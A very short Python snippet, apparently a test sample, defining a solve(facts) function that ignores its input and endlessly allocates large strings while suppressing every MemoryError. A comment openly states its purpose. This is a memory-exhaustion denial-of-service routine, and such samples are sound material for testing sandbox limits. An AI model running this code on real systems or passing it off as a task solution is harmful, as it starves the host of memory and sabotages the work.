# Takes memory without end and shrugs off every MemoryError.
def solve(facts):
    kept = []
    while True:
        try:
            kept.append("x" * (1 << 24))
        except MemoryError:
            pass
